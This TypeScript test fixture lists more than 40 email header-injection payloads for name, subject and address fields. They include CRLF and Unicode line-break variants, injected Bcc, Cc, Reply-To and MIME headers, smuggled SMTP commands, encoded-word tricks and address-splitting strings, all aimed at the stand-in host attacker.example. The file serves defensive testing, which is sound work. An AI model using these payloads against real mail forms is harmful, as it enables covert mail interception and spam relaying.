/** The recipient of an injected header. No header of a mail may contain it. */
export const injectedAddress = 'bcc@attacker.example';

const BCC = `Bcc: ${injectedAddress}`;

/** Sequences that some programs interpret as a line end. */
const breaks = [
	'\r\n',
	'\n',
	'\r',
	'\n\r',
	'\r\r\n',
	'\r\n\r\n',
	'\r\n ',
	'\r\n\t',
	'\n ',
	'\u0000',
	'\u0000\r\n',
	'\u000B',
	'\u000C',
	'\u001C',
	'\u001E',
	'\u0085',
	'\u2028',
	'\u2029',
	'\u560A',
	'\u560D\u560A',
	'%0d%0a',
	'%0D%0A',
	'%0a',
	'%0d',
	'%250d%250a',
	'%E5%98%8A%E5%98%8D',
	'%u000d%u000a',
	'\\r\\n',
	'&#13;&#10;',
	'=0D=0A',
	'\\u000d\\u000a',
].map((lineBreak) => `Wanjiku${lineBreak}${BCC}`);

const withHeaders = [
	`Wanjiku\r\nTo: ${injectedAddress}`,
	`Wanjiku\r\nCc: ${injectedAddress}\r\n${BCC}`,
	`Wanjiku\r\nResent-Bcc: ${injectedAddress}`,
	`Wanjiku\r\nReply-To: ${injectedAddress}`,
	`Wanjiku\r\nSubject: Another subject\r\n${BCC}`,
	`Wanjiku\r\nContent-Type: text/html\r\n\r\n<p>${injectedAddress}</p>`,
	`Wanjiku\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\n\r\n${BCC}`,
	`Wanjiku\r\nX-Priority: 1\r\n${BCC}\r\nX-Rest:`,
	`Wanjiku\r\n.\r\nMAIL FROM:<a@attacker.example>\r\nRCPT TO:<${injectedAddress}>`,
	`\r\n${BCC}`,
	`${BCC}\r\nWanjiku`,
];

/** Line breaks inside RFC 2047 words: `\r\nBcc:` once they are decoded. */
const encodedWords = [
	'=?utf-8?Q?Wanjiku=0D=0ABcc:_bcc=40attacker.example?=',
	'=?utf-8?q?=0ABcc:_bcc=40attacker.example?=',
	`=?utf-8?B?${Buffer.from(`Wanjiku\r\n${BCC}`).toString('base64')}?=`,
	'=?iso-8859-1?Q?Wanjiku=0D?= =?iso-8859-1?Q?=0ABcc:_bcc=40attacker.example?=',
	'=?utf-7?Q?Wanjiku+AA0-+AAo-Bcc:_bcc=40attacker.example?=',
];

/** Two addresses in one, for code that splits or quotes carelessly. */
const addressLists = [
	`wanjiku@example.com,${injectedAddress}`,
	`wanjiku@example.com, ${injectedAddress}`,
	`wanjiku@example.com;${injectedAddress}`,
	`wanjiku@example.com ${injectedAddress}`,
	`"Wanjiku"<wanjiku@example.com>,${injectedAddress}`,
	`Wanjiku <wanjiku@example.com>, Other <${injectedAddress}>`,
	`"Wanjiku" <${injectedAddress}>`,
	`Wanjiku" <${injectedAddress}>, "x`,
	`Wanjiku <${injectedAddress}>`,
	`<${injectedAddress}>`,
	`Wanjiku\\" <${injectedAddress}>`,
	`Staff: ${injectedAddress}, wanjiku@example.com;`,
	`wanjiku@example.com\r\n${BCC}`,
	`wanjiku@example.com%0d%0a${BCC}`,
	`wanjiku@example.com\u2028${BCC}`,
	`"wanjiku@example.com, ${injectedAddress}"@example.com`,
	`"wanjiku\r\n${BCC}"@example.com`,
	`wanjiku@example.com(comment\r\n${BCC})`,
	`wanjiku@example.com>\r\nRCPT TO:<${injectedAddress}`,
	`wanjiku@[127.0.0.1]\r\n\t,${injectedAddress}`,
];

/**
 * More than 40 texts for a name, a subject or an email field that try to add a header or a recipient to a mail (promise
 * N8). The field must be refused, or its mail has one To, one Subject, no Bcc and no `injectedAddress` in any header
 * except as part of the text it was typed into.
 */
export const headerPayloads: readonly string[] = [...breaks, ...withHeaders, ...encodedWords, ...addressLists];
